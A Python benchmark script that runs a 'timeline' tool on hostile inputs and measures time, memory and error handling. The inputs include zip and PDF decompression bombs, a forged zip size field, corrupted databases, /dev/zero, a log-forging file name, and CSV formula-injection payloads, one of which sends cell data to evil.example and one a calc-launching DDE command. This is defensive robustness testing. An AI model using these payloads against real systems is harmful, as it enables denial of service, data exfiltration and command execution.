"""Hostile and broken input, each through the command line: seconds and peak memory per case.

    python benchmarks/hostile_inputs.py                    # every case (a few minutes)
    python benchmarks/hostile_inputs.py 1a 2a 6            # the cases named (or every case of a row)
    python benchmarks/hostile_inputs.py --project DIR      # run another checkout of the project on the same inputs
    python benchmarks/hostile_inputs.py --big              # add the 2 GB .docx bomb (6.8 MB file)

Each case writes its input (a pathological line, a zip or PDF bomb, a damaged store, a device, a
name with a newline, a large table) into a temporary folder, runs `python -m timeline ...` on it
under `/usr/bin/time -v` in a store of its own (created and loaded with the sample beforehand,
so that loading the sample is not counted), and prints the wall-clock seconds, the maximum
resident set size, the CPU time (user + system, which other jobs on the machine do not
inflate), the exit status, the first and last lines the command printed on stderr, and what the
case checks (the message a user sees, whether a formula reached the CSV, whether the store was
rebuilt behind the user's back). A command still running after --timeout seconds is killed, and
so is one past --memory-cap MB (as an address-space limit, so that a bomb cannot take the
machine down).

The generators are plain functions of a size, so that the tests build the same shapes small.
"""

from __future__ import annotations

import argparse
import io
import json
import os
import re
import resource
import signal
import sqlite3
import subprocess
import sys
import tempfile
import time
import zipfile
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path

PROJECT = Path(__file__).resolve().parent.parent

# -- input generators ----------------------------------------------------------------------------

OPENING = "On June 19, 2024, talks began. "


def long_line(repeats: int = 10_000) -> bytes:
    """One line of many short sentences: 210 KB at 10,000."""
    return (OPENING + "It rained in Moscow. " * repeats).encode()


def anaphora_chain(repeats: int = 2_000) -> bytes:
    """A date, then "the following day" over and over on one line: 36 KB at 2,000."""
    return (OPENING + "the following day " * repeats).encode()


def slashed_dates(repeats: int = 2_000) -> bytes:
    """Numeric dates ("1/2/2003") one after another on one line: 18 KB at 2,000."""
    return (OPENING + "1/2/2003 " * repeats).encode()


def one_line_sentences(repeats: int = 20_000) -> bytes:
    """Sentences without a date, all on one line: 220 KB at 20,000."""
    return ("Published: June 20, 2024\n" + "It rained. " * repeats).encode()


def docx_bomb(path: Path, inflated: int, words: bytes = b"It rained in Moscow. ") -> None:
    """A .docx whose word/document.xml inflates to about `inflated` bytes of paragraphs of `words`
    (b"x" packs a thousand bytes into one of deflate: 21 MB in 21 KB).

    The other parts are those of a real (python-docx) document; the body is written in pieces,
    so that making a 2 GB bomb takes no memory.
    """
    import docx

    template = io.BytesIO()
    document = docx.Document()
    document.add_paragraph("It rained in Moscow.")
    document.save(template)
    paragraph = b"<w:p><w:r><w:t>" + words * (4200 // len(words)) + b"</w:t></w:r></w:p>"
    with zipfile.ZipFile(template) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target:
        for item in source.infolist():
            if item.filename != "word/document.xml":
                target.writestr(item, source.read(item))
                continue
            head = source.read(item).split(b"<w:body>", 1)[0]
            member = zipfile.ZipInfo(item.filename, date_time=item.date_time)
            member.compress_type = zipfile.ZIP_DEFLATED
            with target.open(member, "w", force_zip64=True) as body:
                body.write(head + b"<w:body>")
                written = 0
                while written < inflated:
                    body.write(paragraph * 100)
                    written += len(paragraph) * 100
                body.write(b"</w:body></w:document>")


def docx_with_lying_size(inflated: int) -> bytes:
    """A .docx whose document.xml declares a small size in the zip's directory but inflates to `inflated` bytes."""
    import docx

    template = io.BytesIO()
    document = docx.Document()
    document.add_paragraph("It rained in Moscow.")
    document.save(template)
    out = io.BytesIO()
    with zipfile.ZipFile(template) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "word/document.xml":
                head, tail = data.split(b"<w:body>", 1)
                filler = b"<w:p><w:r><w:t>" + b"x" * 1000 + b"</w:t></w:r></w:p>"
                data = head + b"<w:body>" + filler * (inflated // len(filler)) + b"<w:sectPr/></w:body></w:document>"
            target.writestr(item, data)
    raw = bytearray(out.getvalue())
    _declare_size(raw, b"word/document.xml", 4096)
    return bytes(raw)


def _declare_size(raw: bytearray, name: bytes, size: int) -> None:
    """Rewrite a member's uncompressed size in its local header and the central directory."""
    at = 0
    while (at := raw.find(name, at + 1)) > 0:
        if raw[at - 30 : at - 26] == b"PK\x03\x04":
            raw[at - 8 : at - 4] = size.to_bytes(4, "little")
        elif raw[at - 46 : at - 42] == b"PK\x01\x02":
            raw[at - 22 : at - 18] = size.to_bytes(4, "little")


def pdf_shared_stream(pages: int, operations: int) -> bytes:
    """A PDF of `pages` pages that all show one content stream of `operations` text operations:
    a few KB of deflate that each page's extraction inflates and parses again."""
    content = b"BT /F1 12 Tf 72 720 Td " + b"(It rained in Moscow.) Tj 0 -14 Td " * operations + b"ET"
    stream = zlib.compress(content, 9)
    kids = b" ".join(b"5 0 R" for _ in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count " + str(pages).encode() + b" >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Length " + str(len(stream)).encode() + b" /Filter /FlateDecode >>\nstream\n" + stream + b"\nendstream",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> /Contents 4 0 R >>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
    "outlet": "+cmd|' /C calc'!A0",
}


def formula_article() -> bytes:
    """An article whose title, outlet and quoted sentence a spreadsheet would run as formulas."""
    return (
        "---\n"
        f"title: '{FORMULAS['title']}'\n"
        f"outlet: \"{FORMULAS['outlet']}\"\n"
        "published: 2024-06-20\n"
        "---\n"
        "-2+3 was the vote count when the parliament approved the budget on June 19, 2024, after a long debate.\n"
        "@SUM(1+1) said the banner the protesters carried through Moscow on June 18, 2024, before the vote.\n"
    ).encode()


def deep_jsonl(depth: int = 5_000) -> bytes:
    """Three rows; the second nests `depth` arrays deep."""
    good = [{"text": f"Lawmakers voted on June {day}, 2024 to end the strike in the port.", "published": "2024-06-20"} for day in (3, 4)]
    return b"\n".join([json.dumps(good[0]).encode(), b'{"text": ' + b"[" * depth + b"]" * depth + b"}", json.dumps(good[1]).encode()]) + b"\n"


def table_rows(rows: int = 200_000) -> bytes:
    """A CSV of one short article per row."""
    lines = ["title,text,published"]
    lines += [f"Budget {i},Officials in district {i} announced a budget on Monday.,2024-06-{i % 28 + 1:02d}" for i in range(rows)]
    return ("\n".join(lines) + "\n").encode()


FORGED_NAME = "fake.txt: 999 added, 0 problems\nreal.txt"


# -- damaged stores --------------------------------------------------------------------------------


def overwrite_header(store: Path) -> None:
    with open(store, "r+b") as file:
        file.write(b"this is not a database at all!!!")


def cut_short(store: Path) -> None:
    with open(store, "r+b") as file:
        file.truncate(store.stat().st_size // 2)


def garbage_inside(store: Path) -> None:
    """Random bytes over every page but the first: the header reads, the tables do not."""
    size = store.stat().st_size
    with open(store, "r+b") as file:
        file.seek(4096)
        file.write(os.urandom(size - 4096))


def empty_file(store: Path) -> None:
    store.write_bytes(b"")


def damaged_blob(store: Path) -> None:
    """Every cached event set overwritten with bytes that do not inflate."""
    with sqlite3.connect(store) as db:
        db.execute("UPDATE event_sets SET payload = ?", (b"\x78\x9cnot deflate at all",))


# -- running one command ---------------------------------------------------------------------------


@dataclass
class Outcome:
    seconds: float
    cpu_seconds: float
    """User and system time: what the command cost, whatever else the machine was running."""
    peak_mb: float
    status: int | str
    stderr: str
    stdout: str


def run(project: Path, args: Sequence[str], data_dir: Path, timeout: float, memory_cap_mb: int, stdin: bytes | None = None) -> Outcome:
    """`python -m timeline ARGS` in `project` under /usr/bin/time -v; killed past the timeout or memory cap."""
    env = {**os.environ, "TIMELINE_DATA_DIR": str(data_dir), "PYTHONPATH": str(project)}
    cap = memory_cap_mb * 2**20

    def limit() -> None:
        os.setsid()
        resource.setrlimit(resource.RLIMIT_AS, (cap, cap))

    timing = tempfile.NamedTemporaryFile("r", suffix=".time")
    command = ["/usr/bin/time", "-v", "-o", timing.name, sys.executable, "-m", "timeline", *args]
    process = subprocess.Popen(command, cwd=project, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, stdin=subprocess.PIPE, preexec_fn=limit)
    started = time.monotonic()
    try:
        out, err = process.communicate(stdin, timeout=timeout)
        status: int | str = process.returncode
    except subprocess.TimeoutExpired:
        _kill_children(process.pid)  # GNU time still reports on a child killed by a signal
        out, err = process.communicate()
        status = f"killed at {timeout:g} s"
    elapsed = time.monotonic() - started
    report = timing.read()
    peak = re.search(r"Maximum resident set size \(kbytes\): (\d+)", report)
    wall = re.search(r"Elapsed \(wall clock\) time \(h:mm:ss or m:ss\): ([\d:.]+)", report)
    seconds = _seconds(wall.group(1)) if wall else elapsed
    cpu = sum(float(m.group(1)) for m in re.finditer(r"(?:User|System) time \(seconds\): ([\d.]+)", report))
    return Outcome(seconds, cpu, int(peak.group(1)) / 1024 if peak else float("nan"), status, err.decode(errors="replace"), out.decode(errors="replace"))


def _kill_children(pid: int) -> None:
    try:
        children = Path(f"/proc/{pid}/task/{pid}/children").read_text().split()
    except OSError:
        children = []
    for child in children:
        try:
            os.kill(int(child), signal.SIGKILL)
        except ProcessLookupError:
            pass


def _seconds(clock: str) -> float:
    total = 0.0
    for part in clock.split(":"):
        total = total * 60 + float(part)
    return total


def _last_line(text: str) -> str:
    lines = [line for line in text.strip().splitlines() if line.strip()]
    return lines[-1].strip()[:140] if lines else ""


def _said(text: str) -> list[str]:
    """What a command said on stderr: its first line (the message about the file, or a traceback's
    opening) and its last (the summary, or the exception), each cut to 160 characters."""
    lines = [line.strip()[:160] for line in text.strip().splitlines() if line.strip()]
    return list(dict.fromkeys(lines[:1] + lines[-1:]))


# -- the cases -------------------------------------------------------------------------------------


@dataclass
class Case:
    row: str
    what: str
    measure: Callable[["Bench"], tuple[Outcome, str]]
    big: bool = False


class Bench:
    def __init__(self, project: Path, folder: Path, timeout: float, memory_cap_mb: int) -> None:
        self.project, self.folder, self.timeout, self.memory_cap_mb = project, folder, timeout, memory_cap_mb
        self._stores = 0
        self.table_stores: dict[int, Path] = {}
        """Rows -> the store a table of that many rows was added to, for the export case after it."""

    def store(self, loaded: bool = True) -> Path:
        """A data directory of its own, with the sample corpus loaded (not timed) unless `loaded` is False."""
        self._stores += 1
        data_dir = self.folder / f"store{self._stores}"
        if loaded:
            self.run(["corpus", "list"], data_dir, timeout=600)
        return data_dir

    def file(self, name: str, data: bytes) -> Path:
        path = self.folder / name
        path.write_bytes(data)
        return path

    def run(self, args: Sequence[str], data_dir: Path, timeout: float | None = None) -> Outcome:
        return run(self.project, [str(a) for a in args], data_dir, timeout or self.timeout, self.memory_cap_mb)


def _add(name: str, make: Callable[[], bytes]) -> Callable[[Bench], tuple[Outcome, str]]:
    def measure(bench: Bench) -> tuple[Outcome, str]:
        data_dir = bench.store()
        outcome = bench.run(["corpus", "add", bench.file(name, make()), "--published", "2024-06-20"], data_dir)
        return outcome, _corpus_size(bench, data_dir)

    return measure


def _corpus_size(bench: Bench, data_dir: Path) -> str:
    listing = bench.run(["corpus", "list"], data_dir, timeout=600)
    articles = [json.loads(line) for line in listing.stdout.splitlines() if line.startswith("{")]
    return f"{len(articles)} articles stored (5 sample); largest text {max((_text_length(data_dir, a['id']) for a in articles), default=0):,} chars"


def _text_length(data_dir: Path, article_id: str) -> int:
    with sqlite3.connect(data_dir / "timeline.sqlite") as db:
        row = db.execute("SELECT length(text) FROM articles WHERE id = ?", (article_id,)).fetchone()
    return row[0] if row else 0


def _docx(inflated: int) -> Callable[[Bench], tuple[Outcome, str]]:
    def measure(bench: Bench) -> tuple[Outcome, str]:
        path = bench.folder / f"bomb-{inflated // 10**6}MB.docx"
        docx_bomb(path, inflated)
        data_dir = bench.store()
        outcome = bench.run(["corpus", "add", path, "--published", "2024-06-20"], data_dir)
        return outcome, f"{path.stat().st_size / 1e6:.1f} MB file; " + _corpus_size(bench, data_dir)

    return measure


def _pdf(pages: int, operations: int) -> Callable[[Bench], tuple[Outcome, str]]:
    def measure(bench: Bench) -> tuple[Outcome, str]:
        path = bench.file(f"shared-{pages}.pdf", pdf_shared_stream(pages, operations))
        data_dir = bench.store()
        outcome = bench.run(["corpus", "add", path, "--published", "2024-06-20"], data_dir)
        return outcome, f"{path.stat().st_size / 1e3:.0f} KB file; " + _corpus_size(bench, data_dir)

    return measure


def _formulas(bench: Bench) -> tuple[Outcome, str]:
    data_dir = bench.store()
    bench.run(["corpus", "add", bench.file("formula.txt", formula_article())], data_dir)
    out = bench.folder / "formulas.csv"
    outcome = bench.run(["export", "--format", "csv", "--out", out], data_dir)
    cells = [cell for line in out.read_text(encoding="utf-8").splitlines() for cell in _csv_cells(line)] if out.exists() else []
    raw = sum(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells)
    return outcome, f"{raw} cells a spreadsheet would run as formulas"


def _csv_cells(line: str) -> list[str]:
    import csv

    return next(csv.reader([line]), [])


def _parallel_first_opens(rounds: int) -> Callable[[Bench], tuple[Outcome, str]]:
    def measure(bench: Bench) -> tuple[Outcome, str]:
        article = bench.file("parallel.txt", b"Published: June 20, 2024\nThe parliament approved the budget on June 19, 2024, after a long debate.\n")
        failures, slowest, cpu, peak = 0, [], [], 0.0
        messages = set()
        for _ in range(rounds):
            data_dir = bench.store(loaded=False)
            with concurrent(2) as pool:
                outcomes = list(pool.map(lambda _: bench.run(["corpus", "add", article], data_dir), range(2)))
            failures += sum(o.status != 0 for o in outcomes)
            messages |= {_last_line(o.stderr) for o in outcomes if o.status != 0}
            slowest.append(max(o.seconds for o in outcomes))
            cpu.append(max(o.cpu_seconds for o in outcomes))
            peak = max(peak, *(o.peak_mb for o in outcomes))
        slowest.sort()
        cpu.sort()
        median = Outcome(slowest[len(slowest) // 2], cpu[len(cpu) // 2], peak, f"{failures} failed", "\n".join(sorted(messages)), "")
        return median, f"{failures} of {2 * rounds} first opens failed ({rounds} rounds of two; time is the median round)"

    return measure


def concurrent(workers: int):
    from concurrent.futures import ThreadPoolExecutor

    return ThreadPoolExecutor(workers)


def _damaged(damage: Callable[[Path], None], command: Sequence[str] = ("corpus", "list")) -> Callable[[Bench], tuple[Outcome, str]]:
    def measure(bench: Bench) -> tuple[Outcome, str]:
        data_dir = bench.store()
        bench.run(["export", "--format", "json", "--out", bench.folder / "warm.json"], data_dir)  # caches the merged events
        store = data_dir / "timeline.sqlite"
        for suffix in ("-wal", "-shm"):
            Path(f"{store}{suffix}").unlink(missing_ok=True)
        before = store.stat().st_size
        damage(store)
        outcome = bench.run(command, data_dir)
        traceback = "Traceback" in outcome.stderr
        rebuilt = outcome.status == 0 and before > 0 and store.stat().st_size > 0 and damage is empty_file
        kept = sorted(p.name for p in data_dir.iterdir())
        return outcome, f"traceback: {'yes' if traceback else 'no'}; rebuilt silently: {'yes' if rebuilt else 'no'}; files: {', '.join(kept)}"

    return measure


def _deep_jsonl(bench: Bench) -> tuple[Outcome, str]:
    data_dir = bench.store()
    outcome = bench.run(["corpus", "add", bench.file("deep.jsonl", deep_jsonl())], data_dir)
    return outcome, _corpus_size(bench, data_dir)


def _device(link: bool) -> Callable[[Bench], tuple[Outcome, str]]:
    def measure(bench: Bench) -> tuple[Outcome, str]:
        target = Path("/dev/zero")
        if link:
            target = bench.folder / "zero.txt"
            target.symlink_to("/dev/zero")
        outcome = bench.run(["corpus", "add", target], bench.store())
        return outcome, f"traceback: {'yes' if 'Traceback' in outcome.stderr else 'no'}"

    return measure


def _forged_name(bench: Bench) -> tuple[Outcome, str]:
    path = bench.file(FORGED_NAME, b"")
    outcome = bench.run(["corpus", "add", path], bench.store())
    forged = "fake.txt: 999 added, 0 problems" in outcome.stderr.splitlines()
    return outcome, f"forged line printed: {'yes' if forged else 'no'}"


def _table(rows: int) -> Callable[[Bench], tuple[Outcome, str]]:
    def measure(bench: Bench) -> tuple[Outcome, str]:
        data_dir = bench.store()
        path = bench.file(f"rows-{rows}.csv", table_rows(rows))
        outcome = bench.run(["corpus", "add", path], data_dir)
        bench.table_stores[rows] = data_dir
        return outcome, f"{path.stat().st_size / 1e6:.1f} MB file; " + _corpus_size(bench, data_dir).split(";")[0]

    return measure


def _table_export(rows: int) -> Callable[[Bench], tuple[Outcome, str]]:
    def measure(bench: Bench) -> tuple[Outcome, str]:
        data_dir = bench.table_stores.get(rows)
        if data_dir is None:
            data_dir = bench.store()
            bench.run(["corpus", "add", bench.file(f"rows-{rows}.csv", table_rows(rows))], data_dir, timeout=3600)
        out = bench.folder / "rows.csv"
        outcome = bench.run(["export", "--format", "csv", "--out", out], data_dir)
        lines = sum(1 for _ in out.open(encoding="utf-8")) if out.exists() else 0
        again = bench.run(["export", "--format", "csv", "--out", out], data_dir)
        return outcome, f"{lines:,} CSV lines; cached re-export {again.seconds:.1f} s ({again.cpu_seconds:.1f} s CPU), {again.peak_mb:.0f} MB"

    return measure


CASES = (
    Case("1a", "long line: a date + 'It rained in Moscow. ' x 10,000 (210 KB, one line)", _add("long-line.txt", long_line)),
    Case("1b", "'the following day' x 2,000 after a date (36 KB, one line)", _add("following.txt", anaphora_chain)),
    Case("1c", "'1/2/2003 ' x 2,000 after a date (18 KB, one line)", _add("slashes.txt", slashed_dates)),
    Case("1d", "'It rained. ' x 20,000 (220 KB, one line)", _add("sentences.txt", one_line_sentences)),
    Case("2a", ".docx, word/document.xml inflating to 200 MB", _docx(200_000_000)),
    Case("2b", ".docx, word/document.xml inflating to 2 GB", _docx(2_000_000_000), big=True),
    Case("3a", "PDF, 20 pages sharing one content stream", _pdf(20, 30_000)),
    Case("3b", "PDF, 2,000 pages sharing one content stream", _pdf(2_000, 30_000)),
    Case("4", "title, outlet and quotes starting with = + - @, exported as CSV", _formulas),
    Case("5", "two `corpus add` at once on a store that does not exist yet", _parallel_first_opens(20)),
    Case("6a", "store header overwritten: corpus list", _damaged(overwrite_header)),
    Case("6b", "store cut short: corpus list", _damaged(cut_short)),
    Case("6c", "store with garbage inside: corpus list", _damaged(garbage_inside)),
    Case("6d", "0-byte store: corpus list", _damaged(empty_file)),
    Case("6e", "damaged cached events: export --format csv", _damaged(damaged_blob, ("export", "--format", "csv", "--out", os.devnull))),
    Case("7", "JSONL with a row nested 5,000 deep between two good rows", _deep_jsonl),
    Case("8a", "corpus add /dev/zero", _device(link=False)),
    Case("8b", "corpus add zero.txt, a link to /dev/zero", _device(link=True)),
    Case("9", "a file name holding a newline and a forged message", _forged_name),
    Case("10a", "CSV of 20,000 one-line rows: corpus add", _table(20_000)),
    Case("10b", "the same store: export --format csv (first, then cached)", _table_export(20_000)),
    Case("10c", "CSV of 200,000 one-line rows: corpus add", _table(200_000)),
    Case("10d", "the same store: export --format csv (first, then cached)", _table_export(200_000)),
)


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python benchmarks/hostile_inputs.py", description=__doc__.splitlines()[0])
    parser.add_argument("cases", nargs="*", help="case ids or row numbers (default: all)")
    parser.add_argument("--project", type=Path, default=PROJECT, help="checkout of the project to run (default: this one)")
    parser.add_argument("--timeout", type=float, default=300, help="seconds before a command is killed (default: 300)")
    parser.add_argument("--memory-cap", type=int, default=8000, help="address-space limit of each command, MB (default: 8000)")
    parser.add_argument("--big", action="store_true", help="include the 2 GB .docx bomb")
    args = parser.parse_args(argv)
    chosen = [c for c in CASES if (not args.cases and (args.big or not c.big)) or c.row in args.cases or (c.row.rstrip("abcde") in args.cases and (args.big or not c.big))]
    print(f"project: {args.project.resolve()}  (timeout {args.timeout:g} s, memory cap {args.memory_cap:,} MB)")
    print(f"{'case':<4} {'seconds':>8} {'CPU s':>8} {'peak MB':>8}  {'exit':<14} what / outcome / last stderr line")
    with tempfile.TemporaryDirectory(prefix="hostile-") as folder:
        bench = Bench(args.project.resolve(), Path(folder), args.timeout, args.memory_cap)
        for case in chosen:
            outcome, check = case.measure(bench)
            print(f"{case.row:<4} {outcome.seconds:8.2f} {outcome.cpu_seconds:8.2f} {outcome.peak_mb:8.0f}  {str(outcome.status):<14} {case.what}")
            print(f"{'':<46} {check}")
            for line in _said(outcome.stderr):
                print(f"{'':<46} stderr: {line!r}")
            sys.stdout.flush()
    return 0


if __name__ == "__main__":
    sys.exit(main())
